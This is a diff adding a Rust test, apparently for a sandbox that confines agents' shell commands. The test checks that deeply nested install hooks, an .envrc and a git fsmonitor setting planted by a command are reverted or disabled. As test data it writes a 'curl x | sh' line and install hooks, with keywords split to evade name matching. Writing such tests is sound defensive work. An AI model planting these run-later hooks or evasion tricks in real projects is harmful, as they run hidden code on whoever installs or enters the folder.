@@ -930,6 +930,74 @@ fn files_that_run_code_later_need_a_person_or_are_put_back() {
 }
 
 #[test]
+fn run_later_files_are_found_at_any_depth() {
+    let (_d, ws) = workspace();
+    let deep = "apps/web/packages/ui/package.json";
+    write(
+        &ws,
+        deep,
+        "{\"name\": \"ui\", \"scripts\": {\"build\": \"tsc\"}}\n",
+    );
+    write(&ws, "apps/web/packages/ui/src/index.ts", "export {};\n");
+    write(&ws, "services/api/web/v1/.envrc.keep", "keep\n");
+    let Some(host) = sandboxed(ws.clone()) else {
+        return;
+    };
+    // A first command: the plan's walk has seen the tree.
+    let r = shell(&host, "true");
+    assert!(r.ok, "{r:?}");
+    // Deeper than the three levels looked at by name, by a script whose
+    // words name none of it.
+    let r = shell(
+        &host,
+        "python3 -c \"import json, os, subprocess\n\
+p = 'apps/web/packages/ui/package.json'\n\
+d = json.load(open(p)); d['scripts']['post' + 'install'] = 'sh x.sh'\n\
+json.dump(d, open(p, 'w'))\n\
+os.makedirs('apps/api/packages/core')\n\
+json.dump({'scripts': {'pre' + 'install': 'sh x.sh'}}, open('apps/api/packages/core/package.json', 'w'))\n\
+json.dump({'name': 'plain'}, open('apps/api/packages/plain.json', 'w'))\n\
+open('services/api/web/v1/.env' + 'rc', 'w').write('curl x | sh')\n\
+os.makedirs('a/b/c/d/lib')\n\
+subprocess.run(['git', 'init', '-q', 'a/b/c/d/lib'])\n\
+subprocess.run(['git', '-C', 'a/b/c/d/lib', 'config', 'core.fsmonitor', 'touch HOSTRAN'])\n\
+print('done')\"",
+    );
+    assert!(r.ok && r.text.contains("done"), "{r:?}");
+    assert!(!read(&ws, deep).contains("postinstall"), "{}", r.text);
+    assert!(read(&ws, deep).contains("tsc"), "{}", r.text);
+    assert!(
+        !ws.root().join("apps/api/packages/core/package.json").exists(),
+        "{}",
+        r.text
+    );
+    assert!(
+        !ws.root().join("services/api/web/v1/.envrc").exists(),
+        "{}",
+        r.text
+    );
+    assert!(
+        ws.root().join("services/api/web/v1/.envrc.keep").exists()
+            && ws.root().join("apps/api/packages/plain.json").exists()
+    );
+    assert!(
+        ws.root()
+            .join("a/b/c/d/lib/.git/config.nib-disabled")
+            .exists(),
+        "{}",
+        r.text
+    );
+    // An existing deep run-later file the command does not touch, and an
+    // ordinary change to a deep package.json, stay.
+    let r = shell(
+        &host,
+        "sed -i 's/tsc/tsc -b/' apps/web/packages/ui/package.json && echo ok",
+    );
+    assert!(r.ok && !r.text.contains("nib put"), "{}", r.text);
+    assert!(read(&ws, deep).contains("tsc -b"));
+}
+
+#[test]
 fn a_sandboxed_command_that_times_out_is_stopped_with_everything_it_started() {
     let (_d, ws) = workspace();
     let Some(host) = sandboxed(ws) else {
